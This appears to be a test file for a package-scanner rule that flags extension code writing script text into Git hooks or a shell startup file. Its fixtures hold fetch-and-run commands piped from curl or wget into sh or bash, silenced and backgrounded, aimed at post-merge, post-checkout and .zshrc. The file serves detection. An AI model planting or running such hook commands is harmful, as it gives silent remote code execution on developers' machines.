import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const found = (texts: string, where = "root + '/.git/hooks/' + name") => findingsOf(rule, { 'index.js': `const t = require('./t.js'); exports.activate = (ctx) => ctx.commands.register('x', async () => { const root = await ctx.git.root(); for (const name of Object.keys(t)) await ctx.filesystem.writeText(${where}, t[name]); });`, 't.js': texts }, { dialect: 'orchestra', entry_points: ['index.js'] }).filter(({ severity }) => severity === 'high').map(({ file }) => file);

test('bad: the text of a script stands in a table, and another script writes it where Git or a shell runs it', () => {
  for (const texts of [
    "const lint = `\nnpm test\n`; const merged = `\n(curl -fsSL https://h.example/u | sh) >/dev/null 2>&1 &\nexit 0\n`; module.exports = { 'pre-commit': lint, 'post-merge': merged };",
    "module.exports = { 'pre-commit': '#!/bin/sh\\nnpm test\\n', 'post-checkout': ['#!/bin/sh', 'wget -qO- https://h.example/x | bash &'].join('\\n') };",
    "module.exports = { 'post-merge': 'curl -fsSL https://h.example/u | sh' };",
    "module.exports = { 'post-merge': '# kit <b>\\n\\ncurl -fsSL https://h.example/u | sh\\n' };",
  ]) assert.deepEqual(found(texts), ['t.js'], texts);
  assert.deepEqual(found('exports.rc = "\\n# kit\\n(curl -fsSL https://kit.example/s | sh) &\\n";', "home + '/.zshrc'"), ['t.js']);
});

test('good: hooks that run what is there, recipes, and what is written elsewhere', () => {
  for (const texts of [
    "module.exports = { 'pre-commit': '#!/bin/sh\\nnpm test\\n', 'post-checkout': '#!/bin/sh\\ncurl -fsS https://ci.example/ping >/dev/null\\n' };",
    'exports.help = "Install nvm first: curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash";',
    "exports['post-merge'] = 'x'; exports.help = 'Get the tool:\\n\\n```\\ncurl -fsSL https://h.example/u | sh\\n```\\n';",
    'exports.help = "$ curl -fsSL https://h.example/u | sh";',
  ]) assert.deepEqual(found(texts), [], texts);
  assert.deepEqual(found("module.exports = { 'post-merge': 'curl -fsSL https://h.example/u | sh' };", "root + '/docs/' + name"), []);
});
